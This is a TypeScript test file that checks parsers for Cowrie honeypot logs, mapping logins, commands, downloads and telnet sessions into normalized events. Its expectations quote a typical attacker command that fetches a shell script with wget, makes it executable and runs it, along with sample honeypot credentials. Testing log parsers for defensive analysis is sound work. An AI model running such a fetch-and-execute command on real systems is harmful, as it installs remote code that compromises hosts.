/**
 * Cowrie honeypot logs (fixtures/honeypot/cowrie, written from Cowrie's "Output Event Code
 * Reference" and its Twisted text format): the JSON and the text log of the same session give the
 * same vocabulary — logins as ssh_login/ssh_login_failed, typed commands as shell_command, downloads
 * with their URL — and nothing is dropped.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { cowrieJson } from '../../src/parsers/cowrie-json.js';
import { cowrieLog } from '../../src/parsers/cowrie-log.js';
import { splitCredentials } from '../../src/parsers/cowrie/text-line.js';
import { PARSERS } from '../../src/parsers/registry.js';
import { makeHead, sniff } from '../../src/ingest/sniff.js';
import { runParser } from '../helpers/run-parser.js';

const FIX = new URL('../../fixtures/honeypot/cowrie/', import.meta.url);
const json = () => readFileSync(new URL('cowrie.json', FIX));
const text = () => readFileSync(new URL('cowrie.log', FIX));
const at = (iso: string) => Date.parse(iso) * 1000;

describe('cowrie_json', () => {
  it('maps every eventid, keeps a broken line and a record without eventid as warnings with their lines', async () => {
    const run = await runParser(cowrieJson, json());
    expect(run.events.map((e) => e.action)).toEqual([
      'ssh_connection', 'cowrie_client_version', 'cowrie_client_kex', 'ssh_login_failed', 'ssh_login_failed', 'ssh_login', 'cowrie_session_params',
      'shell_command', 'file_download', 'shell_command', 'file_download', 'cowrie_direct_tcpip_request', 'ssh_connection_closed',
      'telnet_connection', 'cowrie_log_closed',
    ]);
    expect(run.warnings.map((w) => [w.line, w.reason])).toEqual([
      [15, expect.stringMatching(/^invalid JSON/)],
      [16, 'Cowrie record without eventid'],
    ]);
    expect(run.dispositions).toMatchObject({ record: 15, warning: 2 });
    expect(run.info.cowrie_eventids).toMatchObject({ 'cowrie.login.failed': 2, 'cowrie.session.connect': 2 });
  });

  it('gives a login the client port and server of its session (Cowrie writes them on the connect record only), the account, and no password in the summary', async () => {
    const run = await runParser(cowrieJson, json());
    const ok = run.events[5]!;
    expect(ok).toMatchObject({
      ts: at('2025-03-04T10:00:03Z'), time_quality: 'exact', class: 'authentication', action: 'ssh_login', outcome: 'success', actor: 'root',
      src_ip: '203.0.113.50', src_port: 51022, dst_ip: '10.0.0.5', dst_port: 2222, protocol: 'ssh', session: 'a1b2c3d4e5f6', host: 'hp-01', line: 6,
    });
    expect(ok.attrs).toMatchObject({ method: 'password', password: 'hunter2', eventid: 'cowrie.login.success' });
    expect(ok.summary).not.toContain('hunter2');
    expect(run.events[3]).toMatchObject({ action: 'ssh_login_failed', outcome: 'failure', actor: 'admin', src_port: 51022 });
  });

  it('reads typed commands as host commands of the session’s account and downloads with their URL and hash', async () => {
    const run = await runParser(cowrieJson, json());
    expect(run.events[7]).toMatchObject({
      class: 'process_activity', action: 'shell_command', outcome: 'success', actor: 'root', session: 'a1b2c3d4e5f6',
      command: 'cd /tmp; wget http://198.51.100.23/bins.sh; chmod +x bins.sh; ./bins.sh',
    });
    expect(run.events[9]).toMatchObject({ action: 'shell_command', outcome: 'failure', command: './bins.sh' });
    const dl = run.events[8]!;
    expect(dl).toMatchObject({ action: 'file_download', outcome: 'success', target: 'http://198.51.100.23/bins.sh', src_ip: '203.0.113.50', dst_ip: null, protocol: 'http' });
    expect(dl.attrs).toMatchObject({ shasum: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', url_host: '198.51.100.23' });
    expect(run.events[10]).toMatchObject({ action: 'file_download', outcome: 'failure', target: 'http://198.51.100.24:8080/x86' });
  });

  it('names telnet sessions telnet (connection and protocol from the connect record)', async () => {
    const run = await runParser(cowrieJson, json());
    expect(run.events[13]).toMatchObject({ action: 'telnet_connection', protocol: 'telnet', src_ip: '198.51.100.77', dst_port: 2223 });
    expect(run.events[14]).toMatchObject({ action: 'cowrie_log_closed', class: 'system_activity', protocol: 'telnet' });
  });
});

describe('cowrie_log', () => {
  it('reads the text log of the same session into the same actions, times and accounts as the JSON log', async () => {
    const [j, t] = [await runParser(cowrieJson, json()), await runParser(cowrieLog, text())];
    const key = (e: { ts: number; action: string; actor?: string | null; command?: string | null; target?: string | null }) => `${e.ts} ${e.action} ${e.actor ?? '-'} ${e.command ?? '-'} ${e.target ?? '-'}`;
    const shared = ['ssh_login', 'ssh_login_failed', 'shell_command', 'ssh_connection', 'ssh_connection_closed', 'cowrie_client_version', 'cowrie_client_kex'];
    const fromJson = j.events.filter((e) => shared.includes(e.action) && e.ts < at('2025-03-04T11:00:00Z')).map(key);
    const fromText = t.events.filter((e) => shared.includes(e.action) && e.ts > at('2020-01-01T00:00:00Z')).map(key);
    expect(fromText).toEqual(fromJson);
    expect(t.events.find((e) => e.action === 'file_download')).toMatchObject({ outcome: 'success', target: 'http://198.51.100.23/bins.sh', attrs: expect.objectContaining({ shasum: expect.stringMatching(/^9f86/) }) });
  });

  it('unquotes Python bytes credentials, reads the older Twisted time format, continues a traceback, and warns about a foreign line', async () => {
    const run = await runParser(cowrieLog, text());
    const failed = run.events.filter((e) => e.action === 'ssh_login_failed');
    expect(failed[1]).toMatchObject({ actor: 'root', attrs: expect.objectContaining({ password: "to'or!" }) });
    const old = run.events.find((e) => e.ts === at('2018-01-21T22:35:42Z'))!;
    expect(old).toMatchObject({ action: 'ssh_login', actor: 'support', src_ip: '198.51.100.77', time_quality: 'exact' });
    const tb = run.events.find((e) => e.summary.includes('Unhandled error'))!;
    expect(tb.raw.split('\n')).toHaveLength(3);
    expect(tb.attrs).toMatchObject({ continued_lines: 2 });
    expect(run.dispositions).toMatchObject({ continuation: 2, warning: 1 });
    expect(run.warnings).toEqual([expect.objectContaining({ line: 18, reason: expect.stringMatching(/not a Cowrie text-log line/) })]);
  });

  it('splits credentials in both the bytes-repr and the plain form', () => {
    expect(splitCredentials("b'root'/b'a/b'")).toEqual({ username: 'root', password: 'a/b' });
    expect(splitCredentials('b"it\'s"/b\'\\xff\'')).toEqual({ username: "it's", password: '\u00ff' });
    expect(splitCredentials('admin/admin')).toEqual({ username: 'admin', password: 'admin' });
    expect(splitCredentials("b'unterminated/b'x'")).toBeNull();
  });
});

describe('Cowrie sniffing', () => {
  it('claims each fixture for its own parser and no other parser claims them', () => {
    for (const [file, name] of [['cowrie.json', 'cowrie_json'], ['cowrie.log', 'cowrie_log']] as const) {
      const s = sniff(makeHead(file, readFileSync(new URL(file, FIX))));
      expect(s.winner?.parser.name, file).toBe(name);
      expect(s.candidates.filter((c) => c.match.confidence >= 20).map((c) => c.parser.name), file).toEqual([name]);
    }
    expect(PARSERS.map((p) => p.name)).toEqual(expect.arrayContaining(['cowrie_json', 'cowrie_log', 'dshield_firewall']));
  });
});
